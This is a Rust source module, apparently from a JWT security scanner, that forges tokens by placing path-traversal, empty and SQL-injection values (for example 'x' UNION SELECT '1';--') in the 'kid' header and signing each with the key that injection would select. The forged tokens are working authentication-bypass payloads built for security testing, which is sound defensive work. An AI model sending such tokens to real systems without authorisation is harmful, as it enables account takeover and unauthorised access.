//! Injection through `kid`: a path to a file whose content is known (`/dev/null` is empty, so the
//! key is `""`), and SQL that makes a key lookup return `1`. Each token is signed with the key the
//! injection would select; a server that uses `kid` as a path or in a query accepts it, and one
//! that crashes on it answers 5xx.

use serde_json::Value;

use super::{JwtAttack, JwtInputs, Variant};
use crate::jwt::forge::{Draft, HmacAlg};

/// (check detail, `kid`, HMAC key the injection selects), as jwt_tool's playbook tries them.
pub const INJECTIONS: &[(&str, &str, &str)] = &[
    ("path traversal", "../../../../../../../dev/null", ""),
    ("absolute path", "/dev/null", ""),
    ("empty", "", ""),
    ("sql", "x' UNION SELECT '1';--", "1"),
];

pub(super) fn variants(inputs: &JwtInputs<'_>) -> Result<Vec<Variant>, String> {
    let draft = Draft::from_token(inputs.token)?;
    Ok(INJECTIONS
        .iter()
        .map(|(detail, kid, key)| {
            let mut forged = draft.clone();
            forged
                .header
                .insert("kid".to_owned(), Value::String((*kid).to_owned()));
            let token = forged.sign_hmac(HmacAlg::Hs256, key.as_bytes());
            Variant::jwt(JwtAttack::KidInjection, Some(detail), token)
        })
        .collect())
}
